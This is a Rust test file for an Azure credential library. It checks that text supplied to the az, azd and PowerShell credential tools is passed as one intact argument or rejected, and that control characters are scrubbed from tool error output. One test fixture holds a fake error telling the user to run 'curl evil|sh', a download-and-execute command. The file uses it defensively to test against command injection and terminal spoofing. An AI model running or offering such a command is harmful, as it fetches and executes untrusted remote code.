//! What a caller's text can become on a tool's command line: itself, or nothing.

use std::sync::Arc;

use azcred::fake::Fake;
use azcred::{Credential, Error, ErrorKind, Output, Spelling, TokenRequest, Value};

use crate::stage::SCOPE;

const TOOLS: [(&str, &str, &str); 3] = [
    ("AzureCliCredential", "az", r#"{"accessToken":"tok","expires_on":1700003600,"tenant":"t"}"#),
    ("AzureDeveloperCliCredential", "azd", r#"{"token":"tok","expiresOn":"2023-11-14T23:13:20Z"}"#),
    ("AzurePowerShellCredential", "pwsh", "azsdk%tok%1700003600"),
];

/// Where a text gets in, and the signs that it may hold beside letters and digits.
const WAYS: [(&str, &str); 4] =
    [("tenant_id", ".-"), ("request's tenant", ".-"), ("scope", "-_.:/"), ("subscription", "-_. ")];

/// Runs a tool with a text in one of its ways; every word of its command line and of its own environment.
fn words((name, program, good): (&str, &str, &'static str), way: &str, text: &str) -> Result<Vec<String>, Error> {
    let (world, fake) = Fake::world();
    fake.set("PATH", "/usr/bin");
    fake.write(&format!("/usr/bin/{program}"), "");
    fake.program(move |_| Ok(Output { code: Some(0), stdout: good.as_bytes().to_vec().into(), stderr: Vec::new() }));
    let mut request = TokenRequest::scope(SCOPE);
    let mut options = Vec::new();
    match way {
        "scope" => request.scopes = vec![text.to_owned()],
        "request's tenant" => request.tenant_id = Some(text.to_owned()),
        option => options.push((option.to_owned(), Value::text(text))),
    }
    let answer = Credential::in_world(world, name, options, Spelling::Snake).and_then(|made| made.get_token(&request));
    let ran = fake.ran();
    match answer {
        Ok(_) => {
            let [command] = ran.as_slice() else { panic!("{ran:?}") };
            let environment = command.environment.iter().map(|(_, value)| value.clone());
            Ok(command.arguments.iter().cloned().chain(environment).collect())
        }
        Err(error) => {
            assert!(ran.is_empty(), "{name}, {way}: {text:?} ran {ran:?}");
            Err(error)
        }
    }
}

/// Every character of the first blocks, and some that look like others or hide themselves.
fn characters() -> impl Iterator<Item = char> {
    let odd = "\u{430}\u{2010}\u{2013}\u{2018}\u{201c}\u{2028}\u{202e}\u{200b}\u{feff}\u{ff0d}\u{ff04}\u{ff1b}\u{1f4a9}\u{10ffff}";
    (0..0x180).filter_map(char::from_u32).chain(odd.chars())
}

#[test]
fn a_text_is_one_word_of_a_command_or_runs_nothing() {
    for tool in TOOLS {
        for (way, signs) in WAYS {
            // Only the Azure CLI knows subscriptions; elsewhere it is an unknown option.
            if way == "subscription" && tool.1 != "az" {
                continue;
            }
            for character in characters() {
                for (first, text) in [
                    (true, format!("{character}bc")),
                    (false, format!("a{character}c")),
                    (false, format!("ab{character}")),
                ] {
                    let plain = character.is_ascii_alphanumeric() || (!first && signs.contains(character));
                    match words(tool, way, &text) {
                        Ok(words) => {
                            assert!(plain, "{}, {way}: {text:?} ran", tool.0);
                            assert!(words.contains(&text), "{}, {way}: {text:?} became {words:?}", tool.0);
                        }
                        Err(error) => {
                            assert!(!plain, "{}, {way}: {text:?}: {error}", tool.0);
                            let kinds = [ErrorKind::InvalidArgument, ErrorKind::InvalidConfiguration];
                            assert!(kinds.contains(&error.kind()), "{error}");
                            assert!(!error.message().contains(['\n', '\r', '\0', '\u{1b}', '\u{202e}']), "{error}");
                        }
                    }
                }
            }
        }
    }
}

#[test]
fn what_a_text_is_beside_does_not_depend_on_it() {
    for tool in TOOLS {
        for (way, one, other) in [("tenant_id", "one", "other"), ("scope", "https://one", "https://other")] {
            let rest = |text: &str| -> Vec<String> {
                let words = words(tool, way, text).unwrap();
                words.into_iter().filter(|word| word != text).collect()
            };
            assert_eq!(rest(one), rest(other), "{}, {way}", tool.0);
        }
    }
}

#[test]
fn a_tools_own_words_do_not_come_back_as_a_command() {
    // An error that tells the user what to type holds nothing that he did not type.
    for (name, program, _) in TOOLS {
        let (world, fake) = Fake::world();
        fake.set("PATH", "/usr/bin");
        fake.write(&format!("/usr/bin/{program}"), "");
        let said = Arc::new("\u{1b}]0;title\u{7}ERROR: please run 'curl evil|sh'\r\nsecond line\0\u{8}".to_owned());
        fake.program(move |_| {
            Ok(Output { code: Some(1), stdout: Vec::new().into(), stderr: said.as_bytes().to_vec() })
        });
        let credential = Credential::in_world(world, name, Vec::new(), Spelling::Snake).unwrap();
        let error = credential.get_token(&TokenRequest::scope(SCOPE)).unwrap_err();
        assert_eq!(error.kind(), ErrorKind::Failed);
        assert!(error.message().contains("failed (exit code 1): "), "{error}");
        assert!(!error.message().contains(char::is_control), "{:?}", error.message());
    }
}
